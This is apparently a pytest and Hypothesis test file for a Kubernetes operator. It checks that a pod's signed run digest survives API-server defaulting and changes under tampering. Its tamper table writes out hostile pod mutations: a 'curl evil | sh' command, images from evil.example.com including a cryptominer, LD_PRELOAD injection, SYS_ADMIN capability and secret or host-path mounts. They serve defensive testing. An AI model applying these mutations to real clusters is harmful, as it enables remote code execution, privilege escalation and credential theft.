"""The canonical run spec a package pod's signature binds (`plan.podspec.run_spec`).

Two directions, both needed: what kube-apiserver adds or rewrites on create must not change the run
digest of our own pods (recorded answers of a real kube-apiserver, plus a Hypothesis property over
random packages with the observed defaulting applied), and any change to what a pod runs must.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nodewright.api.models import Interrupt, NodeWright
from nodewright.api.nodestate import PackageStage
from nodewright.plan import podspec

DATA = Path(__file__).resolve().parent / "data" / "trust"
RECORDED = sorted(DATA.glob("kube-apiserver-*.json"))


@pytest.mark.parametrize("path", RECORDED, ids=[p.stem for p in RECORDED])
def test_pods_as_a_real_api_server_stored_them_have_the_digest_they_were_built_with(path: Path) -> None:
    recorded = json.loads(path.read_text())
    built, stored = recorded["manifest"], recorded["stored"]
    assert built["spec"] != stored["spec"], "the recording shows the API server's changes"
    assert podspec.run_spec_changes(built, stored) == []
    assert podspec.run_digest(built) == podspec.run_digest(stored)


def test_the_recordings_cover_the_admission_plugins_that_change_pods() -> None:
    stored = [json.loads(p.read_text())["stored"]["spec"] for p in RECORDED]
    assert any(v["name"].startswith("kube-api-access-") for s in stored for v in s["volumes"])
    assert any(t.get("tolerationSeconds") == 300 for s in stored for t in s["tolerations"])
    assert len(RECORDED) == 4


# ----------------------------------------------------------------------------------------------------
# What kube-apiserver v1.36 does on create (the rule recorded above), applied to any manifest


def _api_server_defaults(manifest: dict[str, Any], *, service_account_plugin: bool) -> dict[str, Any]:
    pod = copy.deepcopy(manifest)
    spec = pod["spec"]
    spec.setdefault("dnsPolicy", "ClusterFirst")
    spec.setdefault("schedulerName", "default-scheduler")
    spec.setdefault("enableServiceLinks", True)
    spec.setdefault("terminationGracePeriodSeconds", 30)
    spec.setdefault("securityContext", {})
    spec.setdefault("priority", 0)
    spec.setdefault("preemptionPolicy", "PreemptLowerPriority")
    spec["tolerations"] = [
        *spec.get("tolerations", []),
        *(
            {"key": key, "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}
            for key in ("node.kubernetes.io/not-ready", "node.kubernetes.io/unreachable")
        ),
    ]
    for volume in spec.get("volumes", []):
        if "hostPath" in volume:
            volume["hostPath"].setdefault("type", "")
        if "configMap" in volume:
            volume["configMap"].setdefault("defaultMode", 420)
    token_mount = {
        "name": "kube-api-access-x7k2q",
        "readOnly": True,
        "mountPath": podspec.SERVICE_ACCOUNT_MOUNT,
    }
    if service_account_plugin:
        spec["serviceAccountName"] = spec["serviceAccount"] = "default"
        spec["volumes"] = [
            *spec.get("volumes", []),
            {
                "name": "kube-api-access-x7k2q",
                "projected": {
                    "defaultMode": 420,
                    "sources": [
                        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                        {
                            "configMap": {
                                "name": "kube-root-ca.crt",
                                "items": [{"key": "ca.crt", "path": "ca.crt"}],
                            }
                        },
                        {
                            "downwardAPI": {
                                "items": [
                                    {
                                        "path": "namespace",
                                        "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"},
                                    }
                                ]
                            }
                        },
                    ],
                },
            },
        ]
    for container in [*spec.get("initContainers", []), *spec["containers"]]:
        container.setdefault("terminationMessagePath", "/dev/termination-log")
        container.setdefault("terminationMessagePolicy", "File")
        image = container["image"]
        tagged = ":" in image.rsplit("/", 1)[-1] and not image.endswith(":latest")
        container.setdefault("imagePullPolicy", "IfNotPresent" if tagged else "Always")
        for env in container.get("env", []):
            ref = (env.get("valueFrom") or {}).get("fieldRef")
            if ref is not None:
                ref.setdefault("apiVersion", "v1")
        if service_account_plugin:
            container["volumeMounts"] = [*container.get("volumeMounts", []), dict(token_mount)]
        limits = (container.get("resources") or {}).get("limits") or {}
        if limits.get("memory") == "1024Mi":
            limits["memory"] = "1Gi"  # quantities come back canonical
    return pod


_ENV_NAMES = st.from_regex(r"[A-Z][A-Z0-9_]{0,8}", fullmatch=True)
_ENV = st.one_of(
    st.fixed_dictionaries({"name": _ENV_NAMES, "value": st.text(max_size=8)}),
    st.fixed_dictionaries(
        {"name": _ENV_NAMES, "valueFrom": st.just({"fieldRef": {"fieldPath": "metadata.name"}})}
    ),
)
_TOLERATIONS = st.lists(
    st.fixed_dictionaries(
        {"key": st.sampled_from(["gpu", "zone", "dedicated"]), "operator": st.just("Exists")},
        optional={"effect": st.sampled_from(["NoSchedule", "NoExecute"])},
    ),
    max_size=2,
)


@st.composite
def _package_pods(draw: st.DrawFn) -> dict[str, Any]:
    package: dict[str, Any] = {
        "version": draw(st.sampled_from(["1.0.0", "2.3.4-rc.1"])),
        "image": draw(st.sampled_from(["ghcr.io/x/tool", "registry:5000/org/pkg", "pkg"])),
        "env": draw(st.lists(_ENV, max_size=3, unique_by=lambda e: str(e["name"]))),
    }
    if draw(st.booleans()):
        package["configMap"] = {"a.conf": "1"}
    if draw(st.booleans()):
        package["resources"] = {
            "cpuRequest": "500m",
            "cpuLimit": "1",
            "memoryRequest": "64Mi",
            "memoryLimit": "1024Mi",
        }
    if draw(st.booleans()):
        package["gracefulShutdown"] = draw(st.sampled_from(["30s", "45s", "2m"]))
    nw = NodeWright.model_validate(
        {
            "apiVersion": "nodewright.io/v1alpha1",
            "kind": "NodeWright",
            "metadata": {"name": "kernel", "uid": "nw-uid", "generation": 2},
            "spec": {"additionalTolerations": draw(_TOLERATIONS), "packages": {"tool": package}},
        }
    )
    stage = draw(st.sampled_from([PackageStage.APPLY, PackageStage.CONFIG, PackageStage.INTERRUPT]))
    options = podspec.PodOptions(
        namespace="nodewright-system",
        agent_image=draw(st.sampled_from(["ghcr.io/nvidia/skyhook/agent:6.4.1", "agent", "agent:latest"])),
        node_metadata_configmap=draw(st.booleans()),
    )
    return podspec.build_pod(
        nw,
        nw.spec.packages["tool"],
        package_name="tool",
        version=nw.spec.packages["tool"].version,
        stage=stage,
        node="gpu-node-7",
        attempt=1,
        node_order=0,
        options=options,
        interrupt=Interrupt.model_validate({"type": "reboot"}) if stage == PackageStage.INTERRUPT else None,
    )


@settings(max_examples=150, deadline=None)
@given(pod=_package_pods(), service_account_plugin=st.booleans())
def test_api_server_defaulting_never_changes_the_digest(
    pod: dict[str, Any], service_account_plugin: bool
) -> None:
    stored = _api_server_defaults(pod, service_account_plugin=service_account_plugin)
    assert podspec.run_spec_changes(pod, stored) == []
    assert podspec.run_digest(stored) == podspec.run_digest(pod)


# ----------------------------------------------------------------------------------------------------
# ... and every change to what the pod runs does


def _init(pod: dict[str, Any], index: int = 1) -> dict[str, Any]:
    container: dict[str, Any] = pod["spec"]["initContainers"][index]
    return container


TAMPERS: dict[str, Callable[[dict[str, Any]], None]] = {
    "copy image": lambda p: _init(p, 0).update(image="evil.example.com/cryptominer:6.6.6"),
    "agent image": lambda p: _init(p).update(image="evil.example.com/agent:1"),
    "pause image": lambda p: p["spec"]["containers"][0].update(image="evil.example.com/pause:1"),
    "command": lambda p: _init(p).update(command=["/bin/sh", "-c", "curl evil | sh"]),
    "args": lambda p: _init(p)["args"].append("--extra"),
    "env value": lambda p: _init(p)["env"].append({"name": "LD_PRELOAD", "value": "/x.so"}),
    "env removed": lambda p: _init(p)["env"].pop(),
    "envFrom": lambda p: _init(p).update(envFrom=[{"secretRef": {"name": "creds"}}]),
    "volume mount": lambda p: _init(p)["volumeMounts"].append({"name": "root-mount", "mountPath": "/host"}),
    "mount propagation": lambda p: _init(p)["volumeMounts"][0].update(mountPropagation="Bidirectional"),
    "security context": lambda p: _init(p)["securityContext"].update(capabilities={"add": ["SYS_ADMIN"]}),
    "working dir": lambda p: _init(p).update(workingDir="/tmp"),
    "pull policy": lambda p: _init(p).update(imagePullPolicy="Never"),
    "lifecycle hook": lambda p: p["spec"]["containers"][0].update(
        lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "x"]}}}
    ),
    "exec probe": lambda p: p["spec"]["containers"][0].update(
        startupProbe={"exec": {"command": ["sh", "-c", "x"]}}
    ),
    "extra container": lambda p: p["spec"]["containers"].append({"name": "miner", "image": "evil:1"}),
    "ephemeral container": lambda p: p["spec"].update(
        ephemeralContainers=[{"name": "dbg", "image": "busybox"}]
    ),
    "sidecar restart policy": lambda p: _init(p).update(restartPolicy="Always"),
    "host path": lambda p: p["spec"]["volumes"][0]["hostPath"].update(path="/etc"),
    "extra volume": lambda p: p["spec"]["volumes"].append({"name": "s", "secret": {"secretName": "creds"}}),
    "hostIPC": lambda p: p["spec"].update(hostIPC=True),
    "hostPID off": lambda p: p["spec"].pop("hostPID"),
    "hostNetwork off": lambda p: p["spec"].update(hostNetwork=False),
    "service account": lambda p: p["spec"].update(serviceAccountName="nodewright-operator"),
    "deprecated service account": lambda p: p["spec"].update(serviceAccount="nodewright-operator"),
    "token automount off": lambda p: p["spec"].update(automountServiceAccountToken=False),
    "node": lambda p: p["spec"].update(nodeName="gpu-node-8"),
    "toleration": lambda p: p["spec"]["tolerations"].append({"operator": "Exists"}),
    "restart policy": lambda p: p["spec"].update(restartPolicy="Always"),
    "grace period": lambda p: p["spec"].update(terminationGracePeriodSeconds=31536000),
    "runtime class": lambda p: p["spec"].update(runtimeClassName="kata"),
    "pod security context": lambda p: p["spec"].update(
        securityContext={"sysctls": [{"name": "k", "value": "v"}]}
    ),
    "run as user": lambda p: _init(p)["securityContext"].update(runAsUser=0),
    "empty arg": lambda p: _init(p)["args"].append(""),
    "fake token volume": lambda p: p["spec"]["volumes"].append(
        {"name": "kube-api-access-abcde", "hostPath": {"path": "/var/lib/kubelet"}}
    ),
}


def _apply_pod() -> dict[str, Any]:
    recorded = json.loads((DATA / "kube-apiserver-v1.36.3-apply-default-admission.json").read_text())
    manifest: dict[str, Any] = recorded["manifest"]
    return manifest


@pytest.mark.parametrize("tamper", sorted(TAMPERS))
def test_any_change_to_what_the_pod_runs_changes_the_digest(tamper: str) -> None:
    pod = _apply_pod()
    changed = copy.deepcopy(pod)
    TAMPERS[tamper](changed)
    assert podspec.run_digest(changed) != podspec.run_digest(pod), tamper
    assert podspec.run_spec_changes(pod, changed), tamper


def test_the_operators_binding_to_the_target_node_keeps_the_digest_and_any_other_node_does_not() -> None:
    nw = NodeWright.model_validate(
        {
            "metadata": {"name": "nw", "uid": "u1", "generation": 1},
            "spec": {"packages": {"tool": {"version": "1.0.0", "image": "ghcr.io/x/tool"}}},
        }
    )
    options = podspec.PodOptions(namespace="ns", agent_image="agent:1", pause_image="pause:3")
    pod = podspec.build_pod(
        nw,
        nw.spec.packages["tool"],
        package_name="tool",
        version="1.0.0",
        stage=PackageStage.APPLY,
        node="gpu-node-1",
        attempt=1,
        node_order=0,
        options=options,
    )
    assert "nodeName" not in pod["spec"]
    bound, elsewhere = copy.deepcopy(pod), copy.deepcopy(pod)
    bound["spec"]["nodeName"] = "gpu-node-1"
    elsewhere["spec"]["nodeName"] = "gpu-node-2"
    assert podspec.run_digest(bound) == podspec.run_digest(pod)
    assert podspec.run_digest(elsewhere) != podspec.run_digest(pod)
    assert podspec.pod_node(pod) == podspec.pod_node(bound) == "gpu-node-1"


def test_a_token_mount_elsewhere_is_not_taken_for_the_injected_one() -> None:
    recorded = json.loads((DATA / "kube-apiserver-v1.36.3-apply-default-admission.json").read_text())
    stored = copy.deepcopy(recorded["stored"])
    token = next(v["name"] for v in stored["spec"]["volumes"] if v["name"].startswith("kube-api-access-"))
    stored["spec"]["initContainers"][1]["volumeMounts"].append({"name": token, "mountPath": "/elsewhere"})
    assert podspec.run_digest(stored) != podspec.run_digest(recorded["manifest"])


def test_trimmed_pods_carry_the_digest_of_the_full_object() -> None:
    from nodewright.kube.trim import trim_pod

    recorded = json.loads((DATA / "kube-apiserver-v1.36.3-apply-sim-admission.json").read_text())
    trimmed = trim_pod(recorded["stored"])
    assert trimmed[podspec.RUN_DIGEST_FIELD] == podspec.run_digest(recorded["manifest"])
    assert trim_pod(trimmed) == trimmed, "idempotent: a trimmed pod keeps its digest"


def test_default_pull_policy_follows_the_tag() -> None:
    assert podspec._default_pull_policy("pause:3.10") == "IfNotPresent"
    assert podspec._default_pull_policy("registry:5000/org/pkg") == "Always"
    assert podspec._default_pull_policy("registry:5000/org/pkg:latest") == "Always"
    assert podspec._default_pull_policy("r/pkg@sha256:" + "a" * 64) == "IfNotPresent"
